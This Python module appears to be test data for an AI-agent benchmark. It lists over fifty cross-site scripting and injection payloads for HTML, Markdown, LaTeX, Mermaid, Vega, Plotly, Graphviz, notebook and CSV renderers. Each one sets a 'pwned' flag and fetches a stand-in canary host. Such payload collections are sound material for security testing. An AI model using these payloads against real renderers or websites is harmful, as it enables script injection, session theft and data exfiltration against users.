"""Fifty values that try to reach the page, the kernel or the network from where they are shown.

Each is text, or JSON, with the way it is to be shown (empty for none). What works sets
`PWNED` on some window, or asks the host `CANARY` for something.
"""

from typing import Any, NamedTuple

PWNED = "agentbenchPwned"
CANARY = "canary.invalid"
_RUN = (
    f"try{{top.{PWNED}=1}}catch(e){{}};try{{parent.{PWNED}=1}}catch(e){{}};"
    f"window.{PWNED}=1;fetch('http://{CANARY}/run')"
)
_IMG = f"http://{CANARY}/img.png"


class Payload(NamedTuple):
    """A value and how it is asked to be shown."""

    value: Any
    way: str = ""


_HTML = (
    f"<script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f'<svg onload="{_RUN}"></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'/></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/><image href='{_IMG}'/></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<math href="javascript:{_RUN}">click</math>',
    f'<body onload="{_RUN}">',
    f'<details open ontoggle="{_RUN}">x</details>',
    f'<input autofocus onfocus="{_RUN}">',
    f'<video><source onerror="{_RUN}"></video>',
    f'<audio src=http://{CANARY}/a.mp3 autoplay onerror="{_RUN}"></audio>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<object data="data:text/html,<script>{_RUN}</script>"></object>',
    f'<embed src="http://{CANARY}/e.swf">',
    f'<link rel=stylesheet href="http://{CANARY}/s.css">',
    f"<style>@import 'http://{CANARY}/i.css'; body{{background:url({_IMG})}}</style>",
    f'<meta http-equiv=refresh content="0;url=http://{CANARY}/refresh">',
    f'<base href="http://{CANARY}/"><img src=x.png>',
    f"<form id=jupyterapp action=http://{CANARY}/f><input name=serviceManager></form>",
    "<a id=jupyter-config-data name=Jupyter href=x>clobber</a><img name=getElementById>",
    f'<template><script>{_RUN}</script></template><p style="background:url({_IMG})">x',
    f"</iframe><script>{_RUN}</script>",
    f'"><script>{_RUN}</script><x y="',
    f"<!doctype html><html><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<div style="position:fixed;inset:0;z-index:99999;background:url({_IMG})">cover</div>',
)
_MARKDOWN = (
    f'# T\n\n<img src=x onerror="{_RUN}">\n\n- a\n- b',
    f"# T\n\n- a\n- b\n\n[click](javascript:{_RUN.replace(' ', '%20')})",
    "# T\n\n- a\n- b\n\n[c](java&#x73;cript:alert(1)) [d](&#106;avascript:alert(1))",
    f"# T\n\n- a\n- b\n\n![x]({_IMG})",
    f"# T\n\n- a\n- b\n\n![x][i]\n\n[i]: {_IMG}",
    f"# T\n\n```html\n</code></pre><script>{_RUN}</script>\n```",
    f'# T\n\n- a\n- b\n\n$<img src=x onerror="{_RUN}">$',
    f"# T\n\n- a\n- b\n\n$\\href{{javascript:{_RUN}}}{{x}}$ $\\cssId{{jupyter-config-data}}{{y}}$",
    f"# T\n\n```mermaid\ngraph TD\n  a[\"<img src=x onerror='{_RUN}'>\"]\n```",
    f'<x\n# T\n- a\n- b\n<svg/onload="{_RUN}">',
)
_OTHERS = (
    Payload(
        f"$$\\href{{javascript:{_RUN}}}{{x}}\\style{{background:url({_IMG})}}{{y}}$$"
    ),
    Payload(
        f'graph TD\n  a["<img src=x onerror=\'{_RUN}\'>"]\n  click a "javascript:{_RUN}"'
    ),
    Payload(f'graph TD\n  a["<script>{_RUN}</script>"] --> b'),
    Payload(
        f"flowchart TD\n  %%{{init: {{'securityLevel': 'loose'}}}}%%\n a[<b onclick={_RUN}>]"
    ),
    Payload(
        {
            "text": f"</script><script>{_RUN}</script>",
            f"<img src=x onerror={_RUN}>": [1],
        }
    ),
    Payload(
        [{"role": "user", "content": f'<img src=x onerror="{_RUN}"> ![i]({_IMG})'}]
    ),
    Payload(
        {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"url": f"http://{CANARY}/data.json"},
            "mark": {"type": "image", "url": _IMG},
            "transform": [
                {"calculate": f"toString.constructor('{_RUN}')()", "as": "x"}
            ],
        }
    ),
    Payload(
        {
            "data": [
                {"type": "scatter", "y": [1], "text": f"<img src=x onerror={_RUN}>"}
            ],
            "layout": {
                "images": [{"source": _IMG}],
                "title": f"<a href='javascript:{_RUN}'>t</a>",
            },
        }
    ),
    Payload(
        f'--- a\n+++ b\n@@ -1 +1 @@\n-<script>{_RUN}</script>\n+<img src=x onerror="{_RUN}">'
    ),
    Payload(
        f'name,rain\n<img src=x onerror="{_RUN}">,</td><script>{_RUN}</script>\n', "csv"
    ),
    Payload(
        {
            "$schema": "https://vega.github.io/schema/vega/v5.json",
            "signals": [
                {"name": "x", "init": f"toString.constructor('{_RUN}')()"},
                {"name": "y", "on": [{"events": "window:load", "update": _RUN}]},
            ],
            "marks": [
                {
                    "type": "text",
                    "encode": {"enter": {"href": {"value": f"javascript:{_RUN}"}}},
                }
            ],
        }
    ),
    Payload(
        f'digraph {{ a [label=<<b>x</b>> URL="javascript:{_RUN}" image="{_IMG}"];'
        f' b [label="</svg><script>{_RUN}</script>"]; a -> b [href="http://{CANARY}/l"] }}'
    ),
    Payload(f'https://{CANARY}/"onmouseover="{_RUN}'),
    Payload(
        {
            "nbformat": 4,
            "cells": [
                {"cell_type": "markdown", "source": f'<img src=x onerror="{_RUN}">'},
                {
                    "cell_type": "code",
                    "source": f"</pre><script>{_RUN}</script>",
                    "outputs": [
                        {"data": {"text/html": f"<script>{_RUN}</script>"}},
                        {"data": {"image/png": f'x" onerror="{_RUN}'}},
                    ],
                },
            ],
        }
    ),
    Payload(
        {
            "type": "Feature",
            "properties": {"name": f"<script>{_RUN}</script>"},
            "geometry": {"type": "Point", "coordinates": [1, 2]},
        }
    ),
)
PAYLOADS: tuple[Payload, ...] = (
    *(Payload(text, "html") for text in _HTML[:12]),
    *(Payload(text) for text in _HTML[12:]),
    *(Payload(text) for text in _MARKDOWN),
    *(Payload(text, "markdown") for text in (_HTML[0], _HTML[1], _HTML[14])),
    *_OTHERS,
)
assert len(PAYLOADS) >= 50
